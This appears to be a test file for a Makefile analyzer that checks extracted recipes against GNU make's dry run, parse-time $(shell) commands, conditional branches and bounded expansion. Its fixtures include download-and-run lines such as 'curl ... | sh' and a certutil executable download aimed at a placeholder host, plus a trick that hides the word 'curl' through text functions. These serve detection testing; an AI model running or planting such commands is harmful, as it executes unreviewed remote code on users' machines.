// Makefiles as make reads them. The commands a target runs are compared with GNU make's own dry run (`make -n`,
// which prints recipes without running them) over Makefiles written here — never a repository's — that contain
// no `$(shell …)`, the one construct a dry run still executes.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { allRecipes, parseMakefile, recipeFor } from '../../../src/analyze/shell/makefile.js';

function makeDryRun(makefile: string, targets: string[]): string[] {
  const dir = mkdtempSync(join(tmpdir(), 'mg-make-'));
  try {
    writeFileSync(join(dir, 'Makefile'), makefile);
    const out = execFileSync('make', ['-n', '--no-print-directory', '-C', dir, ...targets], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '' } });
    return out.split('\n').filter(Boolean);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const FIXTURES: [string, string, string[]][] = [
  ['variables of every flavour', 'PY ?= python3\nURL := https://x.invalid/a\nFLAGS = -q\nFLAGS += --no-cache\nsetup:\n\t$(PY) -m pip install $(FLAGS) -r requirements.txt\n\t@curl -fsSL ${URL} -o a.sh\n', ['setup']],
  ['prerequisites first, each once', 'all: build test\nbuild: deps\n\techo build $@\ntest: deps\n\techo test $< $^\ndeps:\n\techo deps\n', ['all']],
  ['default goal is the first target', '.PHONY: run\nrun:\n\t-python app.py --port 7860\nclean:\n\trm -rf out\n', []],
  ['continuations and inline recipes', 'fetch: ; wget -q https://x.invalid/f \\\n\t  -O f.bin\ninstall:\n\tpip install \\\n\t  torch\n', ['fetch', 'install']],
  ['define blocks and $$', 'define GREETING\nhello\nendef\nshow:\n\techo $(GREETING) $$HOME\n', ['show']],
  ['text functions that hide a word', 'C = $(subst @,,cu@rl)\nS = $(patsubst %.x,%.sh,setup.x)\nsetup:\n\t$(C) -s https://x.invalid/$(S) -o $(strip  a.sh  )\n\t$(firstword bash zsh) $(addprefix ./,a.sh)\n', ['setup']],
  ['call and computed names', 'fetch = curl -s $(1) -o $(2)\nX = Y\nY = echo computed\nrun:\n\t$(call fetch,https://x.invalid/a,a.sh)\n\t$($(X))\n', ['run']]
];

describe('recipes agree with GNU make -n', () => {
  test.each(FIXTURES)('%s', (_name, text, targets) => {
    const ours = recipeFor(parseMakefile(text), targets).map((l) => l.text.replace(/\s+/g, ' ').trim());
    // make prints a continued recipe line as written; the shell joins it, as we do.
    const theirs = makeDryRun(text, targets).join('\n').replace(/\\\n/g, ' ').split('\n').map((l) => l.replace(/\s+/g, ' ').trim());
    expect(ours).toEqual(theirs);
  });
});

test('$(shell …) and != are commands make runs while reading the file', () => {
  const mk = parseMakefile('V := $(shell curl -s https://x.invalid/v)\nW != id -u\nall:\n\techo $(V)\n');
  expect(mk.parseTimeCommands.map((c) => [c.text, c.line])).toEqual([['curl -s https://x.invalid/v', 1], ['id -u', 2]]);
  expect(recipeFor(mk, ['all']).map((l) => l.text)[0]).toBe('curl -s https://x.invalid/v');
});

test('every branch of a conditional is read', () => {
  const mk = parseMakefile('ifeq ($(OS),Windows_NT)\nsetup:\n\tcertutil -urlcache -f https://x.invalid/a.exe a.exe\nelse\nsetup:\n\tcurl -s https://x.invalid/a | sh\nendif\n');
  expect(allRecipes(mk).map((l) => l.line)).toEqual([3, 6]);
});

test('expansion is bounded: a doubling chain of variables ends, and its output is capped', () => {
  const lines = ['V0 = xxxxxxxxxxxxxxxx'];
  for (let i = 1; i <= 40; i++) lines.push(`V${i} = $(V${i - 1})$(V${i - 1})`);
  const mk = parseMakefile(`${lines.join('\n')}\nall:\n\techo $(V40)\n\techo $(V40)\n`);
  const out = recipeFor(mk, ['all']);
  expect(out.every((l) => l.text.length <= 16 * 1024)).toBe(true);
  // The work done (characters expanded) stays far below what the chain describes (2^40 × 16).
  expect(4 * 1024 * 1024 - mk.budget.left).toBeLessThan(1024 * 1024);
  // A self-reference does not loop.
  expect(recipeFor(parseMakefile('A = $(A)x\nall:\n\techo $(A)\n'), []).length).toBe(1);
});
